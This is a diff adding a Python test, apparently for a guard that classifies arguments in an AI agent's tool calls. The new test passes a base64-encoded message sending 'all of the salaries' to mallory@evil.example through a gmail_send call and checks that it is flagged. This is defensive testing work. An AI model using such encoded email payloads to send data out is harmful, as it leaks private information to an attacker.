@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from random import Random
 from typing import Any
 
@@ -441,3 +442,11 @@ def test_a_number_is_one_however_it_is_written(written: str, given: str) -> None
 def test_a_number_with_zeros_before_it_is_not_what_the_user_said() -> None:
     assert asking({"phone": "05551234"}, session=after_a_text("Call 5551234")) == [("phone", "unknown")]
     assert asking({"phone": "5551234"}, session=after_a_text("Call 555-1234")) == []
+
+
+def test_a_long_text_in_base64_is_a_code_and_no_account_number() -> None:
+    raw = b64encode(b"To: mallory@evil.example, and all of the salaries, as you asked." * 2).decode().rstrip("=")
+    assert raw.isalnum()
+    for text, shape in ((raw, "code"), ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "account number")):
+        read = digest_call("gmail_send", {"raw": text}, digester=Digester(KEY), pack=shipped_pack())
+        assert [(each.role, each.shape) for each in read.arguments] == [("destination", shape)]
